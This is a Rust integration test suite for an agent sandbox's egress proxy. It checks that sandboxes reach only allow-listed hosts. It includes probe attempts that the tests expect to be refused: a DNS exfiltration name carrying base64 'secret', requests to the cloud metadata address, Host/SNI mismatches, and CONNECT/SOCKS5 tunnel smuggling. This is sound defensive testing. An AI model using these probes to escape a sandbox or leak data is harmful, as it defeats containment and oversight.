//! The egress proxy end to end: a sandbox with `agentfense.egress` reaches exactly its
//! allow-list, through the proxy in its own network namespace, with curl and Python; a test
//! host lives in a network namespace this test makes (a veth pair on a private test subnet,
//! allowed through `network.private_allow`).

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use super::server::{Server, privileged};
use super::util::outcome;

/// A test host: a network namespace with an HTTP server on `addr:8000` (a file and a
/// package index) and a DNS server on `addr:53` that logs every query it gets, reached from
/// the host over a veth pair. Removed on drop.
struct TestHost {
    ns: String,
    veth: String,
    addr: String,
    subnet: String,
    http: Child,
    dns: Child,
    /// The DNS server's log: one `name type` line per query.
    dns_log: std::path::PathBuf,
}

/// The test DNS server: answers A queries for `name=address` arguments, NXDOMAIN for
/// everything else, and logs every query.
const DNS_SERVER: &str = r#"
import socket, struct, sys
addr, log, ready = sys.argv[1], sys.argv[2], sys.argv[3]
names = dict(a.split("=") for a in sys.argv[4:])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, 53))
open(ready, "w").close()
while True:
    data, peer = s.recvfrom(4096)
    i, labels = 12, []
    while data[i]:
        labels.append(data[i + 1:i + 1 + data[i]].decode("ascii", "replace"))
        i += 1 + data[i]
    qname, qtype = ".".join(labels).lower(), struct.unpack(">H", data[i + 1:i + 3])[0]
    with open(log, "a") as f:
        f.write(f"{qname} {qtype}\n")
    ip = names.get(qname)
    rr = b""
    if ip and qtype == 1:
        rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 30, 4) + socket.inet_aton(ip)
    flags = 0x8180 if ip else 0x8183
    head = data[:2] + struct.pack(">HHHHH", flags, 1, 1 if rr else 0, 0, 0)
    s.sendto(head + data[12:i + 5] + rr, peer)
"#;

/// Inside the sandbox: raw DNS queries over UDP to its resolver (`rcode answers` for a TXT
/// query of the allowed name, a TXT query of a subdomain, an A query of the allowed name),
/// then a raw UDP datagram straight to the address in `argv[1]`.
const DNS_QUERY: &str = r#"
import socket, struct, sys
def q(name, t):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    body = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    s.sendto(struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + body + struct.pack(">HH", t, 1), ("127.0.0.1", 53))
    r = s.recv(4096)
    return r[3] & 15, struct.unpack(">H", r[6:8])[0]
print(*q("mirror.test", 16), *q("leak-abc.mirror.test", 16), *q("mirror.test", 1), end=" ")
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"raw", (sys.argv[1], 53))
    print("sent")
except OSError:
    print("unreachable")
"#;

/// A wheel of a package `afdemo` 1.0 with one module, built in Python (a zip).
const MAKE_WHEEL: &str = r#"
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("afdemo.py", "WHERE = 'the test index'\n")
    z.writestr("afdemo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: afdemo\nVersion: 1.0\n")
    z.writestr("afdemo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("afdemo-1.0.dist-info/RECORD", "")
"#;

fn ip(args: &[&str]) {
    let out = Command::new("ip").args(args).output().unwrap();
    assert!(
        out.status.success(),
        "ip {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

impl TestHost {
    fn start(root: &Path) -> TestHost {
        // Unique per process and per test host in it (tests run in parallel).
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let id = std::process::id();
        let net = 16 + ((id + n * 101) % 200);
        let (ns, veth, peer) = (
            format!("aft{id}x{n}"),
            format!("afh{id}x{n}"),
            format!("afn{id}x{n}"),
        );
        let (host_addr, addr) = (format!("10.231.{net}.1"), format!("10.231.{net}.2"));
        let _ = Command::new("ip").args(["netns", "del", &ns]).output();
        let _ = Command::new("ip").args(["link", "del", &veth]).output();
        ip(&["netns", "add", &ns]);
        ip(&["link", "add", &veth, "type", "veth", "peer", "name", &peer]);
        ip(&["link", "set", &peer, "netns", &ns]);
        ip(&["addr", "add", &format!("{host_addr}/24"), "dev", &veth]);
        ip(&["link", "set", &veth, "up"]);
        ip(&[
            "-n",
            &ns,
            "addr",
            "add",
            &format!("{addr}/24"),
            "dev",
            &peer,
        ]);
        ip(&["-n", &ns, "link", "set", &peer, "up"]);
        ip(&["-n", &ns, "link", "set", "lo", "up"]);
        let site = root.join("site");
        std::fs::create_dir_all(site.join("simple/afdemo")).unwrap();
        std::fs::write(site.join("ok.txt"), "reached the mirror\n").unwrap();
        let wheel = "afdemo-1.0-py3-none-any.whl";
        let made = Command::new("python3")
            .args(["-c", MAKE_WHEEL])
            .arg(site.join("simple/afdemo").join(wheel))
            .status()
            .unwrap();
        assert!(made.success());
        std::fs::write(
            site.join("simple/afdemo/index.html"),
            format!("<html><body><a href=\"{wheel}\">{wheel}</a></body></html>\n"),
        )
        .unwrap();
        let (dns_log, ready) = (root.join("dns.log"), root.join("dns.ready"));
        let dns = Command::new("ip")
            .args(["netns", "exec", &ns, "python3", "-c", DNS_SERVER, &addr])
            .arg(&dns_log)
            .arg(&ready)
            .arg(format!("mirror.test={addr}"))
            .arg(format!("pypi.mirror.test={addr}"))
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        let http = Command::new("ip")
            .args([
                "netns",
                "exec",
                &ns,
                "python3",
                "-m",
                "http.server",
                "8000",
                "--bind",
            ])
            .arg(&addr)
            .arg("--directory")
            .arg(&site)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let host = TestHost {
            ns,
            veth,
            subnet: format!("10.231.{net}.0/24"),
            addr,
            http,
            dns,
            dns_log,
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        while std::net::TcpStream::connect((host.addr.as_str(), 8000)).is_err() || !ready.exists() {
            assert!(Instant::now() < deadline, "the test host never listened");
            std::thread::sleep(Duration::from_millis(50));
        }
        host
    }

    /// The queries the test DNS server got.
    fn dns_queries(&self) -> String {
        std::fs::read_to_string(&self.dns_log).unwrap_or_default()
    }
}

impl Drop for TestHost {
    fn drop(&mut self) {
        for c in [&mut self.http, &mut self.dns] {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
        let _ = Command::new("ip")
            .args(["link", "del", &self.veth])
            .output();
    }
}

fn cli(server: &Server, args: &[&str]) -> (i32, String, String) {
    let split = args.iter().position(|a| *a == "--").unwrap_or(args.len());
    outcome(
        Command::new(env!("CARGO_BIN_EXE_agentfense"))
            .args(&args[..split])
            .args(["--endpoint", &server.grpc])
            .args(&args[split..])
            .output()
            .unwrap(),
    )
}

#[test]
fn a_sandbox_reaches_its_allow_list_and_nothing_else() {
    if !privileged("a_sandbox_reaches_its_allow_list_and_nothing_else") {
        return;
    }
    let missing = agentfense_testsupport::all(&[
        agentfense_testsupport::which("ip")
            .is_none()
            .then(|| "iproute2 (ip) is not installed".to_owned()),
        agentfense_testsupport::which("curl")
            .is_none()
            .then(|| "curl is not installed".to_owned()),
    ]);
    if !agentfense_testsupport::require(
        "a_sandbox_reaches_its_allow_list_and_nothing_else",
        missing,
    ) {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let host = TestHost::start(tmp.path());
    let data = tmp.path().join("data");
    let mut server = Server::start_with(
        &data,
        &format!(
            "network:\n  private_allow: ['{}']\n  upstream_dns: ['{}']\n  hosts:\n    other.test: ['{}']\n",
            host.subnet, host.addr, host.addr
        ),
    );
    let (code, cb, err) = cli(&server, &["codebase", "create", "net"]);
    assert_eq!(code, 0, "{err}");
    let cb = cb.trim().to_owned();
    let (code, sb, err) = cli(
        &server,
        &[
            "sandbox",
            "create",
            &cb,
            "--label",
            "agentfense.egress=mirror.test:8000",
            "--start",
        ],
    );
    assert_eq!(code, 0, "{err}\n{}", server.log_text());
    let sb = sb.trim().to_owned();
    let run = |cmd: &str| cli(&server, &["exec", &sb, "--", cmd]);
    let status = |url: &str| {
        let (_, out, _) = run(&format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 {url}"
        ));
        out
    };

    // Allowed: by name, through the proxy the environment names, with curl and Python.
    let (code, out, err) = run("curl -sS --max-time 10 http://mirror.test:8000/ok.txt");
    assert_eq!((code, out.as_str()), (0, "reached the mirror\n"), "{err}");
    let (code, out, err) = run(
        "python3 -c \"import urllib.request as u; print(u.urlopen('http://mirror.test:8000/ok.txt', timeout=10).read().decode().strip())\"",
    );
    assert_eq!((code, out.trim()), (0, "reached the mirror"), "{err}");
    // CONNECT to the allowed host:port carries any protocol but plain HTTP, whose Host
    // header would pick another site behind the address unchecked: that must come as an
    // absolute-form request.
    let (code, out, err) = run(
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', 3128)); \
         s.sendall(b'CONNECT mirror.test:8000 HTTP/1.1\\r\\n\\r\\n'); \
         print(s.recv(100).split(b' ')[1].decode()); s.sendall(b'SSH-2.0-test\\r\\n'); \
         print(b'400' in s.recv(1000))\"",
    );
    assert_eq!((code, out.as_str()), (0, "200\nTrue\n"), "{err}");
    let (code, _, err) = run("curl -sS -p --max-time 10 http://mirror.test:8000/ok.txt");
    assert_ne!(code, 0, "plain HTTP went through a tunnel: {err}");

    // Refused at once, with the reason: another name (same address), the IP literal, the
    // metadata address, the host's loopback and the server's own API port.
    let grpc_port = server.grpc.rsplit(':').next().unwrap().to_owned();
    for url in [
        "http://other.test:8000/ok.txt".to_owned(),
        format!("http://{}:8000/ok.txt", host.addr),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        format!("http://127.0.0.1:{grpc_port}/"),
        "http://mirror.test:8001/".to_owned(),
    ] {
        let (_, out, _) = run(&format!(
            "curl -s -D - -o /dev/null --noproxy '' --max-time 10 {url}"
        ));
        assert!(out.starts_with("HTTP/1.1 403"), "{url}: {out}");
        assert!(out.contains("X-AgentFense-Deny"), "{url}: {out}");
    }
    assert_eq!(status("http://mirror.test:8000/ok.txt"), "200");
    // The Host header must name the URL's host (another site behind the allowed address).
    let (_, out, _) = run(
        "curl -s -o /dev/null -w '%{http_code}' --max-time 10 -H 'Host: other.test:8000' \
         http://mirror.test:8000/ok.txt",
    );
    assert_eq!(out, "403", "Host mismatch");
    // In a tunnel to the allowed name, TLS must ask for that name: curl sends CONNECT
    // mirror.test:8000 and a ClientHello for other.test, and the tunnel closes before the
    // destination sees a byte.
    let (code, _, err) = run(
        "curl -sS -p --max-time 10 --connect-to other.test:8000:mirror.test:8000 \
         https://other.test:8000/ok.txt",
    );
    assert_ne!(code, 0, "SNI mismatch got through: {err}");
    // Around the proxy there is no way out: no route, no resolver.
    let (code, _, _) = run(&format!(
        "curl -s --noproxy '*' --max-time 5 http://{}:8000/ok.txt",
        host.addr
    ));
    assert_ne!(code, 0, "a direct connection got through");

    // The sandbox's resolver answers the allowed name (through the proxy's resolver, which
    // asked the test DNS server)...
    let (code, out, err) = run("getent hosts mirror.test");
    assert!(code == 0 && out.contains(&host.addr), "{out}{err}");
    // ... and nothing else: other names, a random subdomain of the allowed one, a name the
    // DNS server knows but the policy does not, other query types, raw UDP out.
    for name in [
        "pypi.mirror.test",
        "x7f3a9c1.mirror.test",
        "c2VjcmV0.exfil.test",
        "other.test",
        "pypi.org",
    ] {
        let (code, out, _) = run(&format!("getent hosts {name}"));
        assert_ne!(code, 0, "{name} resolved in the sandbox: {out}");
    }
    let (code, out, err) = run(&format!(
        "python3 -c '{DNS_QUERY}' {addr}",
        addr = host.addr
    ));
    assert_eq!(
        (code, out.trim()),
        (0, "0 0 3 0 0 1 unreachable"),
        "TXT of the allowed name: empty; TXT of a subdomain: NXDOMAIN; A: one answer; raw \
         UDP to the DNS server: no route\n{err}"
    );
    let queries = host.dns_queries();
    assert!(
        !queries.is_empty(),
        "the proxy never asked the test DNS server"
    );
    for q in queries.lines() {
        assert!(
            q == "mirror.test 1" || q == "mirror.test 28",
            "the test DNS server was asked {q:?}; all queries:\n{queries}"
        );
    }

    // SOCKS5 with the name resolved by the proxy: the allowed host, nothing else.
    // (A non-HTTP payload: plain HTTP goes as an absolute-form request, as for CONNECT.)
    let (code, out, err) = run(
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', 3128)); \
         s.sendall(b'\\x05\\x01\\x00'); s.recv(2); n=b'mirror.test'; \
         s.sendall(b'\\x05\\x01\\x00\\x03'+bytes([len(n)])+n+(8000).to_bytes(2,'big')); \
         print(s.recv(10)[1]); s.sendall(b'SSH-2.0-test\\r\\n'); print(b'400' in s.recv(1000))\"",
    );
    assert_eq!((code, out.as_str()), (0, "0\nTrue\n"), "{err}");
    let (code, _, err) = run(
        "curl -sS --max-time 10 --socks5-hostname 127.0.0.1:3128 http://mirror.test:8000/ok.txt",
    );
    assert_ne!(code, 0, "plain HTTP went through a SOCKS tunnel: {err}");
    let (code, _, err) = run(
        "curl -sS --max-time 10 --socks5-hostname 127.0.0.1:3128 http://other.test:8000/ok.txt",
    );
    assert_ne!(code, 0, "SOCKS5 to another name got through: {err}");
    // Resolved in the sandbox, the address is an IP literal, which no name entry allows.
    let (code, _, err) =
        run("curl -sS --max-time 10 --socks5 127.0.0.1:3128 http://mirror.test:8000/ok.txt");
    assert_ne!(code, 0, "SOCKS5 to an address got through: {err}");

    // pip installs from an index on the allowed host, through the proxy.
    let (code, out, err) = run(
        "python3 -m pip install -q --no-cache-dir --disable-pip-version-check \
         --index-url http://mirror.test:8000/simple/ --trusted-host mirror.test \
         --target /tmp/pkgs afdemo && PYTHONPATH=/tmp/pkgs python3 -c 'import afdemo; print(afdemo.WHERE)'",
    );
    assert_eq!((code, out.trim()), (0, "the test index"), "{err}");

    // The policy can be replaced at run time (REST): allow nothing, then the mirror again.
    let put = |egress: &str| {
        let out = Command::new("curl")
            .args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-X", "PUT"])
            .args(["-H", "Content-Type: application/json", "-d"])
            .arg(format!("{{\"egress\": \"{egress}\"}}"))
            .arg(format!("{}/v1/sandboxes/{sb}/egress", server.http))
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    assert_eq!(put(""), "200");
    assert_eq!(status("http://mirror.test:8000/ok.txt"), "403");
    assert_eq!(put("*.com"), "400", "checked like the label");
    assert_eq!(put("mirror.test:8000"), "200");
    assert_eq!(status("http://mirror.test:8000/ok.txt"), "200");
    // The same over gRPC (agentfense.v1.Extensions), from the CLI: lock down, then reopen.
    let (code, _, err) = cli(&server, &["sandbox", "egress", &sb, ""]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(status("http://mirror.test:8000/ok.txt"), "403");
    let (code, _, err) = cli(&server, &["sandbox", "egress", &sb, "*.co.uk"]);
    assert!(code != 0 && err.contains("public suffix"), "{err}");
    let (code, _, err) = cli(&server, &["sandbox", "egress", &sb, "mirror.test:8000"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(status("http://mirror.test:8000/ok.txt"), "200");

    // A sandbox without the label has no network at all.
    let (_, plain, _) = cli(&server, &["sandbox", "create", &cb, "--start"]);
    let (code, _, _) = cli(
        &server,
        &[
            "exec",
            plain.trim(),
            "--",
            "curl -s --max-time 5 http://mirror.test:8000/ok.txt",
        ],
    );
    assert_ne!(code, 0);
    // Bad policies are refused at create, naming the problem.
    let (code, _, err) = cli(
        &server,
        &[
            "sandbox",
            "create",
            &cb,
            "--label",
            "agentfense.egress=*.com",
        ],
    );
    assert!(code != 0 && err.contains("public suffix"), "{err}");

    for s in [sb.as_str(), plain.trim()] {
        assert_eq!(cli(&server, &["sandbox", "rm", s]).0, 0);
    }
    server.stop();
    let audit = std::fs::read_to_string(data.join("audit.jsonl")).unwrap();
    let net: Vec<serde_json::Value> = audit
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|v| v["event"] == "network_connection")
        .collect();
    assert!(
        net.iter().any(|e| e["host"] == "mirror.test"
            && e["decision"] == "allowed"
            && e["bytes_down"].as_u64() > Some(0)),
        "{net:?}"
    );
    // Refusals of `host` (over `protocol`, whose reason contains `why`, when given).
    let refused = |host: &str, protocol: Option<&str>, why: &str| {
        net.iter().any(|e| {
            e["host"] == host
                && e["decision"] == "refused"
                && protocol.is_none_or(|p| e["protocol"] == p)
                && e["detail"].as_str().is_some_and(|d| d.contains(why))
        })
    };
    for (host, protocol, why) in [
        ("other.test", None, ""),
        ("c2VjcmV0.exfil.test", Some("dns"), ""),
        ("other.test", Some("socks5"), ""),
        ("mirror.test", None, "TLS server name"),
        ("mirror.test", None, "plain HTTP through a tunnel"),
    ] {
        assert!(
            refused(host, protocol, why),
            "{host} {protocol:?} {why:?}: {net:?}"
        );
    }
    drop(host);
}

/// `agentfense run --egress`: a local run gets its own proxy and resolver too; an address
/// block the user names may be private (they are the operator), everything else is refused
/// and said once on stderr.
#[test]
fn a_local_run_reaches_only_its_egress_entries() {
    if !privileged("a_local_run_reaches_only_its_egress_entries") {
        return;
    }
    if !agentfense_testsupport::require(
        "a_local_run_reaches_only_its_egress_entries",
        agentfense_testsupport::which("curl")
            .is_none()
            .then(|| "curl is not installed".to_owned()),
    ) {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let host = TestHost::start(tmp.path());
    let project = tmp.path().join("project");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(project.join("README.md"), "hi\n").unwrap();
    let run = |egress: &[&str], cmd: &str| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_agentfense"));
        c.arg("run").arg("--data-dir").arg(tmp.path().join("data"));
        for e in egress {
            c.args(["--egress", e]);
        }
        outcome(c.arg(&project).args(["--", cmd]).output().unwrap())
    };
    let block = format!("{}:8000", host.subnet);
    let (code, out, err) = run(
        &[&block],
        &format!("curl -sS --max-time 10 http://{}:8000/ok.txt", host.addr),
    );
    assert_eq!((code, out.as_str()), (0, "reached the mirror\n"), "{err}");
    let (code, out, err) = run(
        &[&block],
        &format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 http://{}:8001/; \
             getent hosts pypi.org || echo no-dns",
            host.addr
        ),
    );
    assert_eq!((code, out.trim()), (0, "403no-dns"), "{err}");
    assert!(
        err.contains(&format!("egress refused http {}:8001", host.addr)),
        "{err}"
    );
    // A wide block is no blanket exemption: the private test host stays refused under
    // 0.0.0.0/0, as do loopback and metadata addresses.
    let (code, out, err) = run(
        &["0.0.0.0/0:8000"],
        &format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 http://{}:8000/ok.txt",
            host.addr
        ),
    );
    assert_eq!((code, out.trim()), (0, "403"), "{err}");
    // Without --egress: no network at all.
    let (code, _, _) = run(
        &[],
        &format!("curl -sS --max-time 5 http://{}:8000/ok.txt", host.addr),
    );
    assert_ne!(code, 0);
    // A bad entry is refused before anything runs.
    let (code, _, err) = run(&["*.com"], "true");
    assert!(code != 0 && err.contains("public suffix"), "{err}");
    drop(host);
}

/// The Docker runtime: the container has no network (only loopback) and the server's proxy and
/// resolver listen inside its namespace, as with bubblewrap.
#[test]
fn a_docker_sandbox_reaches_its_allow_list_and_nothing_else() {
    let test = "a_docker_sandbox_reaches_its_allow_list_and_nothing_else";
    if !privileged(test) {
        return;
    }
    let image = std::env::var("AGENTFENSE_DOCKER_IMAGE")
        .unwrap_or_else(|_| "agentfense-test-base".to_owned());
    let ready = std::path::Path::new("/var/run/docker.sock").exists()
        && Command::new("docker")
            .args(["image", "inspect", &image])
            .output()
            .is_ok_and(|o| o.status.success());
    if !agentfense_testsupport::require(
        test,
        (!ready)
            .then(|| format!("a Docker daemon with image {image} (run scripts/docker-setup.sh)")),
    ) {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let host = TestHost::start(tmp.path());
    let data = tmp.path().join("data");
    let mut server = Server::start_with(
        &data,
        &format!(
            "runtime:\n  type: docker\n  docker:\n    default_image: {image}\n\
             network:\n  private_allow: ['{}']\n  upstream_dns: ['{}']\n  hosts:\n    other.test: ['{}']\n",
            host.subnet, host.addr, host.addr
        ),
    );
    let (code, cb, err) = cli(&server, &["codebase", "create", "net"]);
    assert_eq!(code, 0, "{err}");
    let (code, sb, err) = cli(
        &server,
        &[
            "sandbox",
            "create",
            cb.trim(),
            "--label",
            "agentfense.egress=mirror.test:8000",
            "--start",
        ],
    );
    assert_eq!(code, 0, "{err}\n{}", server.log_text());
    let sb = sb.trim().to_owned();
    let run = |cmd: &str| cli(&server, &["exec", &sb, "--", cmd]);
    let fetch = |url: &str, proxy: bool| {
        let opener = if proxy {
            "u.build_opener()"
        } else {
            "u.build_opener(u.ProxyHandler({}))"
        };
        run(&format!(
            "python3 -c \"import urllib.request as u, urllib.error as e\ntry: print({opener}.open('{url}', timeout=10).read().decode().strip())\nexcept e.HTTPError as x: print(x.code)\""
        ))
    };
    // It is a container (docker-init is its first process).
    let (_, out, _) = run("tr '\\0' ' ' < /proc/1/cmdline");
    assert!(out.contains("docker-init"), "{out}");
    let (code, out, err) = fetch("http://mirror.test:8000/ok.txt", true);
    assert_eq!((code, out.trim()), (0, "reached the mirror"), "{err}");
    let (_, out, _) = fetch("http://other.test:8000/ok.txt", true);
    assert_eq!(out.trim(), "403");
    let (code, _, _) = fetch(&format!("http://{}:8000/ok.txt", host.addr), false);
    assert_ne!(code, 0, "a direct connection got through");
    let (code, out, err) = run("getent hosts mirror.test");
    assert!(code == 0 && out.contains(&host.addr), "{out}{err}");
    let (code, _, _) = run("getent hosts c2VjcmV0.exfil.test");
    assert_ne!(code, 0);
    for q in host.dns_queries().lines() {
        assert!(
            q == "mirror.test 1" || q == "mirror.test 28",
            "the test DNS server was asked {q:?}"
        );
    }
    assert_eq!(cli(&server, &["sandbox", "rm", &sb]).0, 0);
    server.stop();
    drop(host);
}
